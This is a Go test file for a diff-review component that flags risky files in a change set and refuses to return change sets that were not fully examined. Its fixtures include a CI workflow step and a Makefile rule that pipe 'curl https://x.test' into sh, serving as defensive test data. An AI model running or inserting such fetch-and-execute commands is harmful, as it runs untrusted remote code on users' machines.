package session

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"reflect"
	"testing"

	"fumehood/diffreview"
)

// sideways is a source of added files by their content.
type sideways struct {
	changes []diffreview.Change
	blobs   map[diffreview.Blob]string
	fail    diffreview.Blob
}

func (s *sideways) add(path, text string, exec bool) {
	sum := sha256.Sum256([]byte(text))
	b := diffreview.Blob(hex.EncodeToString(sum[:]))
	s.blobs[b] = text
	s.changes = append(s.changes, diffreview.Change{Path: path, New: diffreview.Entry{Kind: diffreview.KindFile, Exec: exec, Blob: b, Size: int64(len(text))}})
}

func (s *sideways) Changes() []diffreview.Change { return s.changes }

func (s *sideways) Content(b diffreview.Blob, _ int64) ([]byte, error) {
	if b == s.fail {
		return nil, errors.New("gone")
	}
	return []byte(s.blobs[b]), nil
}

func TestFilesJudgedWhileTheyAreComparedAreJudgedTheSame(t *testing.T) {
	src := &sideways{blobs: map[diffreview.Blob]string{}}
	src.add(".envrc", "export A=1\n", false)
	src.add(".github/workflows/x.yml", "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl https://x.test | sh\n", false)
	src.add("Makefile", "all:\n\tcurl https://x.test/a | sh\n", false)
	src.add("hidden.txt", "under a rule of the agent's own\n", false)
	for i := range 60 {
		src.add(fmt.Sprintf("lib/f%02d.go", i), fmt.Sprintf("package lib // %d\n", i), i%9 == 0)
	}
	facts := Facts{NewlyIgnored: []string{"hidden.txt"}}
	findings := func(o diffreview.Options) map[string][]diffreview.Finding {
		cs, err := diffreview.Build(context.Background(), src, o)
		if err != nil {
			t.Fatal(err)
		}
		out := map[string][]diffreview.Finding{}
		for i := range cs.Files {
			out[cs.Files[i].Path] = cs.Files[i].Findings
		}
		return out
	}
	var o diffreview.Options
	facts.Rules(&o)
	got, want := findings(o), findings(diffreview.Options{Risk: facts.Find})
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	for _, p := range []string{".envrc", "Makefile", "hidden.txt"} {
		if len(got[p]) == 0 {
			t.Errorf("%s: got no finding", p)
		}
	}
}

func TestAChangeSetThatWasNotExaminedIsNotShown(t *testing.T) {
	src := &sideways{blobs: map[diffreview.Blob]string{}}
	src.add("Makefile", "all:\n", false)
	var o diffreview.Options
	(&Facts{}).Rules(&o)
	o.RiskFile = nil
	if _, err := diffreview.Build(context.Background(), src, o); err == nil {
		t.Error("got a change set whose files nobody looked at")
	}
	o = diffreview.Options{}
	(&Facts{}).Rules(&o)
	judge := o.RiskFile
	o.RiskFile = func(f *diffreview.File, content func(diffreview.Blob) ([]byte, error)) error {
		if err := judge(f, content); err != nil {
			return err
		}
		return errors.New("a rule could not be applied")
	}
	if _, err := diffreview.Build(context.Background(), src, o); err == nil {
		t.Error("got a change set though a file could not be examined")
	}
}
